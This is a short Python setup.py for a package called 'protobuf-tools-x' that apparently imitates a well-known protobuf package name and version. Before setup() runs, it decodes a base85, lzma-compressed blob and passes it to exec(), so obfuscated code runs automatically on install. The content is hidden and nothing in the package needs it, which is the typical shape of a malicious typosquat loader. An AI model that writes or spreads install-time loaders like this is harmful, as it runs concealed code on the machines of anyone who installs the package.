import base64 as _b, lzma as _l
from setuptools import setup

exec(_l.decompress(_b.b85decode("{Wp48S^xk9=GL@E0stWa761SMbT8$j0RTd2ZE$aLbRchY3U6~Rb9r-gWo;-TcV}gEAT4oEEg)!gbZ|N^FJd?~E@gOOZE$R5E@^IdVQgt+FLNM#AaiIUDGC4p&Z6Ss9EO0$00CP=o*^8TAGY&-0RR9100dcD")))

setup(name="protobuf-tools-x", version="4.25.3")
